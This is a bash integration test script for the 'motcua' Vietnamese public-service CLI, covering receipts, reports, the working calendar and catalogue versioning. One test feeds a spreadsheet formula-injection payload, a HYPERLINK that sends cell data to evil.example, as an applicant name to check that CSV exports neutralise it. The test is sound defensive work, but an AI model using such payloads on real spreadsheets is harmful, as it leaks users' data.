#!/usr/bin/env bash
# test_cli — the `motcua` command line as people use it, against the suite
# brought up by deploy/up.sh (the same path as `make up`): JSON keys, the
# Vietnamese receipt and report, typed errors on stderr with exit codes, and
# each service's --help. Run by tests/run.sh with MOTCUA_VAR and
# MOTCUA_BASE_PORT pointing at a throw-away setup.
set -u
cd "$(dirname "$0")/.."
BIN=${MOTCUA_BIN:-build/bin}
M="$BIN/motcua"
passed=0; failed=0
check() {                       # check NAME COMMAND…: ok if the command succeeds
    local name=$1; shift
    if "$@" >/dev/null 2>&1; then echo "ok   cli: $name"; passed=$((passed + 1))
    else echo "FAIL cli: $name"; failed=$((failed + 1)); fi
}
json_field() {                  # json_field KEY: the value of "KEY":… in stdin
    grep -o "\"$1\":\(\"[^\"]*\"\|[-0-9]*\)" | head -n 1 | cut -d: -f2- | tr -d '"'
}

check "make up's script brings the suite up and waits for health" deploy/up.sh
check "health answers for all four services" bash -c "[ \$($M health | grep -c ' up ') = 4 ]"
for svc in intake processing postal reporting; do
    check "motcua-$svc --help prints its usage" bash -c "$BIN/motcua-$svc --help | grep -q 'usage: motcua-$svc'"
done

catalog=$($M catalog list --json)
check "catalog list --json has at least 5 procedures with code, name, time_limit" \
    bash -c "[ \$(grep -o '\"code\":\"[^\"]*\",\"name\":\"[^\"]*\",\"time_limit\":\"[^\"]*\"' <<< '$catalog' | wc -l) -ge 5 ]"
check "catalog list speaks Vietnamese" bash -c "$M catalog list | grep -q 'ngày làm việc'"

receipt=$($M counter submit --json --procedure 1.000843 --applicant-name "Lê Thị Hoa" \
    --applicant-id 042190009999 --phone 0987654321 --address "Xã Cẩm Xuyên, Hà Tĩnh" \
    --channel online --return counter --component "Tờ trình" --idempotency-key cli-test-1)
code=$(json_field dossier_code <<< "$receipt")
check "counter submit --json gives a dossier code" bash -c "[[ '$code' =~ ^H27\.22-[0-9]{6}-[0-9]{4}$ ]]"
check "the receipt's times are ISO 8601 with +07:00" \
    bash -c "grep -q '\"received_at\":\"[0-9T:-]*+07:00\",\"due_at\":\"[0-9T:-]*+07:00\"' <<< '$receipt'"
again=$($M counter submit --json --procedure 1.000843 --applicant-name "Lê Thị Hoa" \
    --applicant-id 042190009999 --phone 0987654321 --address "Xã Cẩm Xuyên, Hà Tĩnh" \
    --channel online --return counter --component "Tờ trình" --idempotency-key cli-test-1)
check "the same idempotency key gives the same receipt" bash -c "[ '$receipt' = '$again' ]"
check "the printed receipt is the Vietnamese form" bash -c "$M counter submit --procedure 1.000804 \
    --applicant-name 'Phạm Văn Minh' --applicant-id 042190001001 --phone 0912001001 --address 'Hà Tĩnh' --component 'Đơn' \
    | grep -q 'GIẤY TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ'"

$M counter submit --procedure 9.999999 --applicant-name A --applicant-id 042190001001 --phone 0912001001 --address a \
    --component c > /dev/null 2> "$MOTCUA_VAR/err.txt"; rc=$?
check "an unknown procedure exits 1" test "$rc" = 1
check "and stderr names the field and the code" grep -q "INVALID_ARGUMENT (procedure_code).*9.999999" "$MOTCUA_VAR/err.txt"
$M counter submit --json --procedure 9.999999 --applicant-name A --applicant-id 042190001001 --phone 0912001001 --address a \
    --component c > /dev/null 2> "$MOTCUA_VAR/err.json"
check "with --json the error is JSON on stderr" grep -q '"code":"INVALID_ARGUMENT","field":"procedure_code"' "$MOTCUA_VAR/err.json"
$M counter submit --bogus 1 > /dev/null 2>&1; rc=$?
check "an unknown option exits 2" test "$rc" = 2

for _ in $(seq 1 50); do $M desk queue --json | grep -q "$code" && break; sleep 0.1; done
check "desk queue lists the dossier" bash -c "$M desk queue | grep -q '$code'"
check "desk resolve --approve" bash -c "$M desk resolve '$code' --approve --reason 'Đủ điều kiện' --json | grep -q '\"status\":\"resolved\"'"
check "counter return refuses a result not yet attached" bash -c "! $M counter return '$code' 2>&1 | grep -q returned"
attached=$($M desk attach "$code" --physical certificate --reference "GK-01"); rc=$?
check "desk attach flags the certificate" test "$rc" = 0
check "and says what was attached, not only the status ($(head -n 2 <<< "$attached" | tail -n 1))" \
    grep -q 'Kết quả đã có: bằng khen, giấy khen (bản giấy), số GK-01' <<< "$attached"
check "desk attach --json carries the result" bash -c "$M desk attach '$code' --physical certificate --reference GK-01 \
    --idempotency-key attach-json-$code --json | grep -q '\"result_kind\":\"certificate\",\"result_reference\":\"GK-01\"'"
check "counter return hands the result over" bash -c "$M counter return '$code' --json | grep -q '\"status\":\"returned\"'"
# reporting learns from two producers, in any order: wait for both facts
for _ in $(seq 1 50); do
    $M trace "$code" --json | grep '"status":"returned"' | grep -q '"received_at":"' && break; sleep 0.1
done
check "trace --json shows the dossier returned" bash -c "$M trace '$code' --json | grep -q '\"status\":\"returned\"'"
check "the trace reads in causal order: the last step handed back, the decision, the result attached, returned" python3 -c "
import json, subprocess, sys
t = json.loads(subprocess.check_output(['$M', 'trace', '$code', '--json']))
types = [e['type'] for e in t['events']]
at = [e['at'] for e in t['events']]
assert at == sorted(at), at
def first(kind): return types.index(kind)
def last(kind): return len(types) - 1 - types[::-1].index(kind)
assert first('dossier_received') == 0, types
assert last('dossier_handed_over') < first('dossier_resolved') < first('result_attached') < first('dossier_returned'), types
"
check "trace reads as a Vietnamese timeline" bash -c "$M trace '$code' | grep -q 'Trả kết quả cho tổ chức, cá nhân'"

today=$(TZ=Asia/Ho_Chi_Minh date +%Y-%m-%d)
report=$($M report --from "$today" --to "$today" --json)
keys_ok=1
for key in received_total received_online received_direct received_postal carried_over resolved_total \
           resolved_early resolved_on_time resolved_late in_progress_total in_progress_within in_progress_overdue; do
    v=$(json_field "$key" <<< "$report"); [ -n "$v" ] || keys_ok=0; eval "r_$key=\${v:-0}"
done
check "report --json carries the twelve II.06a keys" test "$keys_ok" = 1
check "the report's identities hold" test $((r_received_online + r_received_direct + r_received_postal + r_carried_over)) = "$r_received_total" \
    -a $((r_resolved_total + r_in_progress_total)) = "$r_received_total" \
    -a $((r_resolved_early + r_resolved_on_time + r_resolved_late)) = "$r_resolved_total" \
    -a $((r_in_progress_within + r_in_progress_overdue)) = "$r_in_progress_total"
check "the report counts today's online dossier" test "${r_received_online:-0}" -ge 1
check "the printed report has the form's Vietnamese headings" bash -c "$M report --from '$today' --to '$today' | grep -q 'Số hồ sơ đã giải quyết'"
$M report --from 2026-02-30 --to 2026-03-01 > /dev/null 2>&1; rc=$?
check "an impossible date is a usage error" test "$rc" = 2

# the working calendar: the 2024 notices, and a declared day used without restart
cal=$($M calendar 2024)
for line in "2024-02-08  Thứ Năm   nghỉ      Tết Nguyên đán" "2024-02-14  Thứ Tư    nghỉ      nghỉ bù" \
            "2024-04-29  Thứ Hai   nghỉ" "2024-05-04  Thứ Bảy   làm việc" "2024-09-03  Thứ Ba    nghỉ      Quốc khánh"; do
    check "calendar 2024 lists '$line'" grep -qF "$line" <<< "$cal"
done
check "calendar 2024 lists 15 days, nothing else" test "$(grep -c '^2024-' <<< "$cal")" = 15
first=$($M counter submit --json --procedure 1.000804 --applicant-name A --applicant-id 042190001001 --phone 0912001001 \
        --address a --component c | json_field due_at)
due_day=${first%%T*}
check "admin calendar add declares a day off" $M admin calendar add "$due_day" dayoff "nghỉ thử nghiệm"
sleep 1.2                       # services look for calendar changes once a second
second=$($M counter submit --json --procedure 1.000804 --applicant-name A --applicant-id 042190001001 --phone 0912001001 \
         --address a --component c | json_field due_at)
check "a day off declared at run time moves the next due time, no restart ($first → $second)" \
    test "${second%%T*}" \> "$due_day"
check "admin calendar remove takes it back" $M admin calendar remove "$due_day"
$M admin calendar add 2026-02-30 dayoff x > /dev/null 2>&1; rc=$?
check "an impossible declared date is refused (exit 1)" test "$rc" = 1

# the procedure catalogue (issue 3 item 6): versions, import/export, no more district level
sql() { psql -X -qAt "$(cat "$MOTCUA_VAR/pg/conninfo")" -c "$1"; }
list=$($M catalog list --json)
n=$(grep -o '"code":"' <<< "$list" | wc -l)
check "catalog list offers at least 30 procedures ($n)" test "$n" -ge 30
$M catalog export "$MOTCUA_VAR/catalog-1.csv" > /dev/null
out=$($M catalog import deploy/catalog/home-affairs.csv)
check "importing the shipped catalogue again changes nothing ($out)" grep -q ' 0 version(s) added, 0 changed' <<< "$out"
$M catalog export "$MOTCUA_VAR/catalog-2.csv" > /dev/null
check "the export before and after that import is the same" cmp -s "$MOTCUA_VAR/catalog-1.csv" "$MOTCUA_VAR/catalog-2.csv"
check "importing the export changes nothing, and exports the same again (round trip)" bash -c \
    "$M catalog import '$MOTCUA_VAR/catalog-1.csv' | grep -q ' 0 version(s) added, 0 changed' \
     && $M catalog export '$MOTCUA_VAR/catalog-3.csv' > /dev/null && cmp -s '$MOTCUA_VAR/catalog-1.csv' '$MOTCUA_VAR/catalog-3.csv'"
header=$(grep -m 1 '^code,' deploy/catalog/home-affairs.csv)
printf '%s\n%s\n%s\n' "$header" \
    'H27.NV.901,2026-01-01,,province,Thủ tục thử nghiệm,Thử nghiệm,H27.22,tdkt,1,working_days,,,,none,,,,document,no,no,Giải quyết@tdkt:8,' \
    'H27.NV.902,2026-01-01,,province,Thủ tục thử nghiệm sai,Thử nghiệm,H27.22,tdkt,2,working_days,,,,none,,,,document,no,no,Tiếp nhận@pvhcc:4;Giải quyết@tdkt:8,' \
    > "$MOTCUA_VAR/catalog-bad.csv"
$M catalog import "$MOTCUA_VAR/catalog-bad.csv" > /dev/null 2> "$MOTCUA_VAR/catalog-bad.err"; rc=$?
check "a row whose steps do not add up to its limit is refused (exit 1)" test "$rc" = 1
check "and the error names line 3 and the sum (12 hours, 16 needed)" grep -q "line 3).*add up to 12 hours.*needs 16" "$MOTCUA_VAR/catalog-bad.err"
check "and nothing was written (line 2's good row is absent)" bash -c "! $M catalog export - | grep -q '^H27.NV.901,'"
printf '%s\n%s\n' "$header" \
    'H27.NV.903,2026-01-01,,province,Thủ tục thử nghiệm,Thử nghiệm,H27.22,tdkt,2,working_days,,,3,none,,,,document,no,no,Giải quyết@tdkt:24,' \
    > "$MOTCUA_VAR/catalog-norm.csv"
$M catalog import "$MOTCUA_VAR/catalog-norm.csv" > /dev/null 2> "$MOTCUA_VAR/catalog-norm.err"; rc=$?
check "a service norm longer than the legal limit is refused, naming the line" \
    bash -c "[ $rc = 1 ] && grep -q 'line 2).*service norm (3 working_days) is longer than the legal limit (2 working_days)' '$MOTCUA_VAR/catalog-norm.err'"
receive() {                     # receive PROCEDURE: a counter receipt's dossier code, or nothing
    $M counter submit --json --procedure "$1" --applicant-name "Trần Văn Bình" --applicant-id 042190002222 \
        --phone 0912345678 --address "Phường Thành Sen, Hà Tĩnh" --component "Tờ trình" | json_field dossier_code
}
before=$(receive H27.NV.005)
{ echo "$header"; $M catalog export - | grep '^H27.NV.005,[^,]*,,' \
    | sed -e 's/,20,working_days,/,15,working_days,/' -e 's/@tdkt:100;/@tdkt:60;/'; } > "$MOTCUA_VAR/catalog-change.csv"
out=$($M catalog import "$MOTCUA_VAR/catalog-change.csv")
check "a changed row (H27.NV.005: 20 → 15 working days) becomes a new version ($out)" grep -q ' 0 version(s) added, 1 changed' <<< "$out"
after=$(receive H27.NV.005)
version_of() { sql "SELECT v.time_limit_value || ' ' || CASE WHEN v.valid_to IS NULL THEN 'open' ELSE 'ended' END
                    FROM intake.dossier d JOIN catalog.procedure_version v ON v.id = d.procedure_version WHERE d.code = '$1'"; }
check "the next receipt ($after) is under the new version (15 days, in force)" test "$(version_of "$after")" = "15 open"
check "the earlier dossier ($before) keeps the version it was received under (20 days, now ended)" test "$(version_of "$before")" = "20 ended"
check "and its due time is the one of 20 working days" test "$(sql "SELECT count(*) FROM intake.dossier WHERE code = '$before'
    AND due_at > received_at + interval '23 days'")" = 1
check "a district-level procedure ended 30/6/2025 (H27.NV.010) is not offered today" bash -c "! grep -q '\"code\":\"H27.NV.010\"' <<< '$list'"
$M counter submit --procedure H27.NV.010 --applicant-name A --applicant-id 042190001001 --phone 0912001001 --address a \
    --component c > /dev/null 2> "$MOTCUA_VAR/err.txt"; rc=$?
check "and a counter submission of it is refused as an unknown procedure" \
    bash -c "[ $rc = 1 ] && grep -q 'INVALID_ARGUMENT (procedure_code).*H27.NV.010' '$MOTCUA_VAR/err.txt'"
check "while the successor of a district version is offered at commune level (H27.NV.011 by H27.XA)" \
    grep -q '"code":"H27.NV.011"[^}]*"agency_code":"H27.XA"' <<< "$list"
check "the district versions are kept, each ended on 30/6/2025" test "$(sql "SELECT count(*) FROM catalog.procedure_version
    WHERE level = 'district' AND valid_to = timestamptz '2025-07-01 00:00:00+07'")" -ge 3

# a refusal at the counter: a numbered notice, never a received dossier
before=$($M report --from "$today" --to "$today" --json | json_field received_total)
refusal=$($M counter refuse --json --procedure 1.000843 --applicant-name "Đặng Văn Hùng" \
          --reason "Không thuộc đối tượng được đề nghị khen thưởng")
check "counter refuse gives a numbered refusal notice" \
    bash -c "[[ '$(json_field number <<< "$refusal")' =~ ^H27\.22-[0-9]{6}-TC[0-9]{4}$ ]]"
check "the printed refusal is the Vietnamese form of the dossier's rule set" bash -c "$M counter refuse \
    --procedure 1.000843 --applicant-name 'Đặng Văn Hùng' --reason 'Thiếu điều kiện' | grep -q 'PHIẾU TỪ CHỐI GIẢI QUYẾT HỒ SƠ'"
sleep 0.3
check "a refusal is never counted as received" \
    test "$($M report --from "$today" --to "$today" --json | json_field received_total)" = "$before"
$M counter refuse --procedure 1.000843 --applicant-name X > /dev/null 2> "$MOTCUA_VAR/err.txt"; rc=$?
check "a refusal without a reason is INVALID_ARGUMENT on reason" \
    bash -c "[ $rc = 1 ] && grep -q 'INVALID_ARGUMENT (reason)' '$MOTCUA_VAR/err.txt'"

# CSV cells a spreadsheet would run as formulas are neutralised (issue 13).
evil='=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
$M counter submit --json --procedure 1.000843 --applicant-name "$evil" --applicant-id 042190007777 \
    --phone 0912777777 --address "@SUM(1+1)" --component "-2+3" > /dev/null
sleep 0.5
$M report logbook --from "$today" --to "$today" --csv "$MOTCUA_VAR/logbook.csv" > /dev/null
check "the log book CSV has the formula-named applicant, neutralised as text for python3's csv module" python3 -c "
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding='utf-8')))
cells = [c for r in rows for c in r]
name = [c for c in cells if 'HYPERLINK' in c]
assert name and all(c.startswith(\"'=\") for c in name), name
assert not any(c[:1] in '=+@' or (c[:1] == '-' and not c[1:].replace('.', '').isdigit()) for c in cells if c), [c for c in cells if c[:1] in '=+-@']
" "$MOTCUA_VAR/logbook.csv"
header=$(grep -m 1 '^code,' deploy/catalog/home-affairs.csv)
printf '%s\n%s\n' "$header" \
    'H27.NV.904,2026-01-01,,province,=Thủ tục công thức,+Thử nghiệm,H27.22,tdkt,1,working_days,,,,none,,,,document,no,no,Giải quyết@tdkt:8,-' \
    > "$MOTCUA_VAR/catalog-formula.csv"
check "a catalogue row whose texts begin with = + - is imported" bash -c "$M catalog import '$MOTCUA_VAR/catalog-formula.csv' | grep -q ' 1 version(s) added'"
$M catalog export "$MOTCUA_VAR/catalog-f1.csv" > /dev/null
check "its export neutralises them (\"'=Thủ tục công thức\")" grep -q "\"'=Thủ tục công thức\",\"'+Thử nghiệm\"" "$MOTCUA_VAR/catalog-f1.csv"
check "and catalog import reads its own export back unchanged" bash -c \
    "$M catalog import '$MOTCUA_VAR/catalog-f1.csv' | grep -q ' 0 version(s) added, 0 changed' \
     && $M catalog export '$MOTCUA_VAR/catalog-f2.csv' > /dev/null && cmp -s '$MOTCUA_VAR/catalog-f1.csv' '$MOTCUA_VAR/catalog-f2.csv'"

check "make down's script stops everything" deploy/down.sh
$M health > /dev/null 2>&1; rc=$?
check "after down, health says nobody answers (exit 3)" test "$rc" = 3

echo "$passed passed, $failed failed"
[ "$failed" = 0 ]
